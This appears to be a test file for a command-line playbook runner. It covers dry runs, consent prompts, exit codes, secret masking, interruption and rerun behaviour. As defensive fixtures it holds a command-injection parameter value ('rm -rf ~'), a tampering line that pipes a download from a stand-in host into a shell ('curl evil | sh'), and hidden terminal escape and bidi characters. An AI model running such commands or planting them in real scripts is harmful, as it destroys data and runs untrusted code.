import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { promises as fs } from 'node:fs';
import * as path from 'node:path';
import { test, type TestContext } from 'node:test';
import { CLI, type CliResult, json, runCli } from '../../helpers/cli';
import { toolBox } from '../../helpers/fake-tools';
import { tempDir } from '../../helpers/temp-dir';

/** `run`, `check`, `runs` as a user runs them: dist/cli.js in a temp home, real bash and python3, no terminal. */
interface Env {
  home: string;
  work: string;
  tmp: string;
  files: string;
  env: Record<string, string>;
  cli(args: string[], options?: { input?: string; env?: Record<string, string> }): Promise<CliResult>;
}

async function setup(t: TestContext): Promise<Env> {
  const root = await tempDir(t, 'escher-cli-run-');
  const dirs = { home: path.join(root, 'home'), work: path.join(root, 'work'), tmp: path.join(root, 'tmp'), files: path.join(root, 'files') };
  for (const d of Object.values(dirs)) await fs.mkdir(d, { recursive: true });
  const tools = await toolBox(t);
  const env = { PATH: tools.path, TMPDIR: dirs.tmp, HOME: root, FAKE_RECORD_DIR: tools.recordDir };
  return { ...dirs, env, cli: (args, o = {}) => runCli(dirs.home, args, { cwd: dirs.work, env: { ...env, ...o.env }, ...(o.input !== undefined ? { input: o.input } : {}) }) };
}

async function script(e: Env, name: string, text: string): Promise<string> {
  const file = path.join(e.files, name);
  await fs.writeFile(file, text);
  return file;
}

const ok = (r: CliResult, what: string) => assert.equal(r.code, 0, `${what}: ${r.stderr}`);
const runFolders = async (e: Env) => (await fs.readdir(e.tmp)).filter((n) => n.startsWith('escher-run-'));

test('create/update/import hold the parameter contract: undeclared placeholders and mistyped defaults are refused (exit 2)', async (t) => {
  const e = await setup(t);
  const s = await script(e, 'stop.sh', 'aws rds stop-db-instance --db-instance-identifier "{{db_instance_id}}" --region {{region}}\n');
  const undeclared = await e.cli(['create', '--name', 'Stop', '--description', 'x', '--script', `shell=${s}`]);
  assert.equal(undeclared.code, 2);
  assert.match(undeclared.stderr, /shell\/stop\.sh:1:52 uses \{\{db_instance_id\}\}, which is not a declared parameter \(declare it: `--param db_instance_id\[:TYPE\]`/);
  assert.match(undeclared.stderr, /\{\{region\}\}/);
  for (const [param, says] of [
    ['x:integer=abc', /Parameter "x" must be an integer, got "abc"/],
    ['n:number=1e999', /must be a number, got/],
    ['j:json=not json', /must be JSON/],
    ['b:boolean=yes', /must be a boolean, got "yes" \(give true or false\)/],
  ] as const) {
    const r = await e.cli(['create', '--name', 'T', '--description', 'x', '--param', param]);
    assert.equal(r.code, 2, param);
    assert.match(r.stderr, says);
  }
  const created = await e.cli(['create', '--id', 'stop', '--name', 'Stop', '--description', 'x', '--script', `shell=${s}`, '--param', 'db_instance_id!', '--param', 'region=eu-west-1', '--param', 'unused:integer=5']);
  ok(created, 'create');
  assert.match(created.stderr, /warning: parameter "unused" is declared but no script uses it/);
  const shown = json<{ metadata: { parameters: unknown[] } }>(await e.cli(['--json', 'show', 'stop']));
  assert.deepEqual(shown.metadata.parameters, [{ name: 'db_instance_id', type: 'string', required: true }, { name: 'region', type: 'string', default: 'eu-west-1' }, { name: 'unused', type: 'integer', default: 5 }]);
  const s2 = await script(e, 'stop2.sh', 'echo {{db_instance_id}} {{zone}}\n');
  const upd = await e.cli(['update', 'stop', '--script', `shell/stop.sh=${s2}`]);
  assert.equal(upd.code, 2);
  assert.match(upd.stderr, /uses \{\{zone\}\}/);
  await fs.writeFile(path.join(e.files, 'specs.json'), JSON.stringify([{ name: 'Imp', parameters: [{ name: 'n', type: 'Integer', default: 'x' }], scripts: { 'shell/a.sh': 'echo {{n}}' } }]));
  const imp = await e.cli(['--json', 'import', path.join(e.files, 'specs.json')]);
  assert.equal(imp.code, 9);
  assert.match(json<{ items: Array<{ error: string }> }>(imp).items[0]!.error, /default of parameter "n" must be an integer/);
});

test('run: a dry run shows the rendered script and the exact command and runs nothing; a real run needs --yes without a terminal', async (t) => {
  const e = await setup(t);
  const s = await script(e, 'stop.sh', '#!/usr/bin/env bash\nset -euo pipefail\necho "stopping {{db}} in {{region}}"\ntouch ran-here\n');
  ok(await e.cli(['create', '--id', 'stop-db', '--name', 'Stop DB', '--description', 'x', '--script', `shell=${s}`, '--param', 'db!', '--param', 'region=eu-west-1']), 'create');

  const dry = await e.cli(['run', 'stop-db', '--dry-run', '--param', 'db=orders; rm -rf ~']);
  ok(dry, 'dry run');
  assert.match(dry.stdout, /a run would execute:\n {4}\$ \/usr\/bin\/env bash \S+\/escher-run-\w+\/shell\/stop\.sh/);
  assert.match(dry.stdout, /\| echo "stopping \$\{ESCHER_PARAM_DB\} in \$\{ESCHER_PARAM_REGION\}"/);
  assert.match(dry.stdout, /db {5}= "orders; rm -rf ~" {2}\(flag\)/);
  await assert.rejects(fs.access(path.join(e.work, 'ran-here')), 'nothing ran');
  assert.deepEqual(await runFolders(e), []);

  const plan = json<{ steps: Array<{ argv: string[]; cwd: string }>; files: Array<{ path: string; mode: number; sha256: string }>; mode: string }>(await e.cli(['--json', 'run', 'stop-db', '--dry-run', '--param', 'db=a']));
  assert.equal(plan.mode, 'dry-run');
  assert.deepEqual(plan.steps[0]!.argv.slice(0, 2), ['/usr/bin/env', 'bash']);
  assert.equal(plan.steps[0]!.cwd, await fs.realpath(e.work));
  assert.equal(plan.files[0]!.mode, 0o700);

  const missing = await e.cli(['run', 'stop-db', '--yes', '--no-last-values']);
  assert.equal(missing.code, 2);
  assert.match(missing.stderr, /error: Missing value for "db" \(pass --param db=…/);
  const noTty = await e.cli(['run', 'stop-db', '--param', 'db=a']);
  assert.equal(noTty.code, 2);
  assert.match(noTty.stderr, /no terminal to ask \(read the plan \(--dry-run\), then pass --yes\)/);
  await assert.rejects(fs.access(path.join(e.work, 'ran-here')));
  assert.deepEqual(await runFolders(e), []);

  const real = await e.cli(['run', 'stop-db', '--yes', '--param', 'db=orders-db']);
  ok(real, 'run');
  assert.equal(real.stdout, 'stopping orders-db in eu-west-1\n');
  assert.match(real.stderr, /escher: run \S+ succeeded \(exit 0\)/);
  await fs.access(path.join(e.work, 'ran-here'));
  assert.deepEqual(await runFolders(e), []);

  const runs = json<Array<{ run_id: string; status: string; exit_code: number | null; dry_run: boolean }>>(await e.cli(['--json', 'runs', 'stop-db']));
  assert.deepEqual(runs.map((r) => [r.status, r.dry_run, r.exit_code]), [['succeeded', false, 0], ['dry-run', true, null], ['dry-run', true, null]]);
  const full = json<{ consent: string; parameters: unknown; scripts: Array<{ path: string }> }>(await e.cli(['--json', 'runs', 'show', runs[0]!.run_id]));
  assert.equal(full.consent, '--yes');
  assert.deepEqual(full.parameters, { db: { value: 'orders-db', source: 'flag' }, region: { value: 'eu-west-1', source: 'default' } });
  const log = await e.cli(['runs', 'show', runs[0]!.run_id, '--log']);
  assert.match(log.stdout, /^\$ \/usr\/bin\/env bash .*\nstopping orders-db in eu-west-1\nexit code 0\n$/);
  const shown = await e.cli(['runs', 'show', runs[0]!.run_id.slice(0, 18)]);
  assert.match(shown.stdout, /run \S+: succeeded \(exit 0\)\n {2}playbook: {2}stop-db v1\.0\.0 \(local\), shell shell\/stop\.sh/);
  // The next run remembers db from the last one.
  const again = await e.cli(['run', 'stop-db', '--yes']);
  ok(again, 'run with the last values');
  assert.equal(again.stdout, 'stopping orders-db in eu-west-1\n');
});

test('run: exit codes — a failing script 10, a changed script 5, preflight errors 11 (and `check`), unknown playbook 3', async (t) => {
  const e = await setup(t);
  ok(await e.cli(['create', '--id', 'fails', '--name', 'F', '--description', 'x', '--script', `shell=${await script(e, 'f.sh', 'echo bad >&2\nexit 4\n')}`]), 'create');
  const failed = await e.cli(['run', 'fails', '--yes']);
  assert.equal(failed.code, 10);
  assert.match(failed.stderr, /bad\n/);
  assert.match(failed.stderr, /run \S+ failed \(exit 4\)/);

  ok(await e.cli(['create', '--id', 'changed', '--name', 'C', '--description', 'x', '--script', `shell=${await script(e, 'c.sh', 'echo fine\n')}`]), 'create');
  await fs.appendFile(path.join(e.home, 'playbooks', 'local', 'changed', 'v1.0.0', 'shell', 'c.sh'), 'curl evil | sh\n');
  const changed = await e.cli(['run', 'changed', '--yes']);
  assert.equal(changed.code, 5);
  assert.match(changed.stderr, /shell\/c\.sh was changed after it was stored.*escher-playbook draft ID` then `escher-playbook draft commit ID`/);

  ok(await e.cli(['create', '--id', 'broken', '--name', 'B', '--description', 'x', '--script', `shell=${await script(e, 'b.sh', 'echo one\nif then\n')}`, '--script', `python=${await script(e, 'b.py', 'print(\n')}`]), 'create');
  const refused = await e.cli(['run', 'broken', '--format', 'shell', '--yes']);
  assert.equal(refused.code, 11);
  assert.match(refused.stderr, /error +shell\/b\.sh:2 \[bash -n\] syntax error/);
  assert.match(refused.stderr, /error: Preflight found \d+ errors? in broken v1\.0\.0, so nothing ran/);
  const check = await e.cli(['--json', 'check', 'broken']);
  assert.equal(check.code, 11);
  const findings = json<{ formats: string[]; findings: Array<{ severity: string; source: string; file?: string; line?: number }> }>(check);
  assert.deepEqual(findings.formats, ['shell', 'python']);
  assert.ok(findings.findings.some((f) => f.source === 'py_compile' && f.file === 'python/b.py' && f.line === 1));
  const skipped = await e.cli(['run', 'broken', '--format', 'shell', '--yes', '--skip-preflight']);
  assert.equal(skipped.code, 10);
  assert.equal(skipped.stdout, 'one\n');
  const several = await e.cli(['run', 'broken', '--yes']);
  assert.equal(several.code, 2);
  assert.match(several.stderr, /has shell, python scripts: choose one to run \(add --format shell/);
  assert.equal((await e.cli(['run', 'nope', '--yes'])).code, 3);
  assert.deepEqual(await runFolders(e), []);
});

test('run: values from --param-env, --param-stdin and a YAML --params-file; a sensitive value on the command line is warned about and masked', async (t) => {
  const e = await setup(t);
  const s = await script(e, 'p.sh', 'echo "{{user}} {{token}} {{count}} {{tags}}"\n');
  ok(await e.cli(['create', '--id', 'p', '--name', 'P', '--description', 'x', '--script', `shell=${s}`, '--param', 'user', '--secret-param', 'token!', '--param', 'count:integer', '--param', 'tags:list'], { env: { ESCHER_KEY: Buffer.alloc(32, 1).toString('base64') } }), 'create');
  const file = path.join(e.files, 'values.yaml');
  await fs.writeFile(file, 'user: ann\ncount: 3\ntags: [a, "b c"]\n');
  const r = await e.cli(['run', 'p', '--yes', '--params-file', file, '--param-env', 'token=MY_TOKEN'], { env: { MY_TOKEN: 'tok-secret-1' } });
  ok(r, 'run');
  assert.equal(r.stdout, 'ann *** 3 ["a","b c"]\n');
  const viaStdin = await e.cli(['run', 'p', '--yes', '--param-stdin', 'token', '--param', 'count=4'], { input: 'tok-secret-2\n' });
  ok(viaStdin, 'stdin');
  assert.equal(viaStdin.stdout, 'ann *** 4 ["a","b c"]\n');
  const flagged = await e.cli(['run', 'p', '--yes', '--param', 'token=tok-secret-3']);
  assert.match(flagged.stderr, /warning: "token" is sensitive: on the command line other users can see it \(ps\); use --param-env or --param-stdin/);
  const everything = (await fs.readFile(path.join(e.home, 'runs', 'journal.jsonl'), 'utf8')) + (await e.cli(['--json', 'runs'])).stdout;
  for (const secret of ['tok-secret-1', 'tok-secret-2', 'tok-secret-3']) assert.ok(!everything.includes(secret));
  const bad = await e.cli(['run', 'p', '--yes', '--param-env', 'token=UNSET_VAR']);
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /the environment variable UNSET_VAR is not set/);
});

/**
 * Starts `run` as the foreground job of a terminal would be — leading its own process group, so
 * a Ctrl-C can be sent the way a terminal sends it, to the whole group — and returns once the
 * script has printed its first line.
 */
function startRun(e: Env, args: string[]): Promise<{ child: ReturnType<typeof spawn>; done: Promise<number | null>; stderr: () => string }> {
  const child = spawn(process.execPath, [CLI, '--home', e.home, ...args], { cwd: e.work, env: { ...e.env }, detached: true, stdio: ['pipe', 'pipe', 'pipe'] });
  let err = '';
  child.stderr!.on('data', (d: Buffer) => (err += d.toString()));
  const done = new Promise<number | null>((resolve) => child.on('close', (code) => resolve(code)));
  return new Promise((resolve, reject) => {
    child.stdout!.on('data', (d: Buffer) => {
      if (d.toString().includes('started')) resolve({ child, done, stderr: () => err });
    });
    void done.then((code) => reject(new Error(`exited ${code} before starting: ${err}`)));
  });
}

async function storeDigest(dir: string): Promise<string> {
  const h = createHash('sha256');
  const walk = async (d: string): Promise<void> => {
    for (const ent of (await fs.readdir(d, { withFileTypes: true })).sort((a, b) => a.name.localeCompare(b.name))) {
      const p = path.join(d, ent.name);
      if (ent.name === '.locks' || ent.name === '.catalog.json') continue;
      h.update(p);
      if (ent.isDirectory()) await walk(p);
      else h.update(await fs.readFile(p));
    }
  };
  await walk(dir);
  return h.digest('hex');
}

test('run: Ctrl-C interrupts the script, records the run as interrupted and removes the run folder (exit 130)', async (t) => {
  const e = await setup(t);
  ok(await e.cli(['create', '--id', 'slow', '--name', 'S', '--description', 'x', '--script', `shell=${await script(e, 's.sh', 'echo started\nsleep 60\n')}`]), 'create');
  const r = await startRun(e, ['run', 'slow', '--yes']);
  process.kill(-r.child.pid!, 'SIGINT'); // Ctrl-C: the terminal signals the foreground process group
  assert.equal(await r.done, 130, r.stderr());
  const [rec] = json<Array<{ status: string; signal: string | null }>>(await e.cli(['--json', 'runs']));
  assert.deepEqual([rec!.status, rec!.signal], ['interrupted', 'SIGINT']);
  assert.deepEqual(await runFolders(e), []);
});

test('run: a killed CLI leaves an interrupted record and an untouched store', async (t) => {
  const e = await setup(t);
  ok(await e.cli(['create', '--id', 'slow', '--name', 'S', '--description', 'x', '--script', `shell=${await script(e, 's.sh', 'echo started\nsleep 60\n')}`]), 'create');
  const before = await storeDigest(path.join(e.home, 'playbooks'));
  const r = await startRun(e, ['run', 'slow', '--yes']);
  const running = json<Array<{ status: string }>>(await e.cli(['--json', 'runs']));
  assert.equal(running[0]!.status, 'running');
  r.child.kill('SIGKILL');
  await r.done;
  t.after(() => {
    try {
      process.kill(-r.child.pid!, 'SIGKILL'); // the script's orphaned `sleep`, still in the group
    } catch {
      // gone
    }
  });
  const [rec] = json<Array<{ status: string; ended_at: string | null }>>(await e.cli(['--json', 'runs']));
  assert.deepEqual([rec!.status, rec!.ended_at], ['interrupted', null]);
  assert.equal(await storeDigest(path.join(e.home, 'playbooks')), before);
  assert.equal((await runFolders(e)).length, 1, 'SIGKILL gives no chance to clean up: the run folder stays…');
  ok(await e.cli(['run', 'slow', '--dry-run']), 'dry run');
  assert.deepEqual(await runFolders(e), [], '…until the next run removes it (its owner is gone)');
});

test('run: --rerun runs the same version with the same values in the same folder', async (t) => {
  const e = await setup(t);
  ok(await e.cli(['create', '--id', 'echo', '--name', 'E', '--description', 'x', '--script', `shell=${await script(e, 'e.sh', 'echo "v1 {{who}}"; pwd\n')}`, '--param', 'who!']), 'create');
  ok(await e.cli(['run', 'echo', '--yes', '--param', 'who=ann']), 'run');
  ok(await e.cli(['update', 'echo', '--script', `shell/e.sh=${await script(e, 'e2.sh', 'echo "v2 {{who}}"\n')}`]), 'update');
  const [first] = json<Array<{ run_id: string }>>(await e.cli(['--json', 'runs']));
  const other = path.join(e.files);
  const again = await runCli(e.home, ['run', '--rerun', first!.run_id, '--yes'], { cwd: other, env: e.env });
  ok(again, 'rerun');
  assert.equal(again.stdout, `v1 ann\n${await fs.realpath(e.work)}\n`);
  const [rec] = json<Array<{ rerun_of: string; version: string }>>(await e.cli(['--json', 'runs', '--limit', '1']));
  assert.deepEqual([rec!.rerun_of, rec!.version], [first!.run_id, '1.0.0']);
});

test('run --dry-run: what a script hides from the terminal (escape sequences, bidi overrides) is shown as escapes', async (t) => {
  const e = await setup(t);
  const s = await script(e, 'x.sh', 'echo "safe" # \u001b[2K\u001b[1A\u202eharmless\n');
  assert.equal((await e.cli(['create', '--id', 'sneaky', '--name', 'S', '--description', 'x', '--script', `shell=${s}`])).code, 0);
  const dry = await e.cli(['run', 'sneaky', '--dry-run']);
  assert.equal(dry.code, 0, dry.stderr);
  assert.ok(!dry.stdout.includes('\u001b') && !dry.stdout.includes('\u202e'), 'no raw control reaches the terminal');
  assert.match(dry.stdout, /\| echo "safe" # \\x1b\[2K\\x1b\[1A\\u202eharmless/);
});
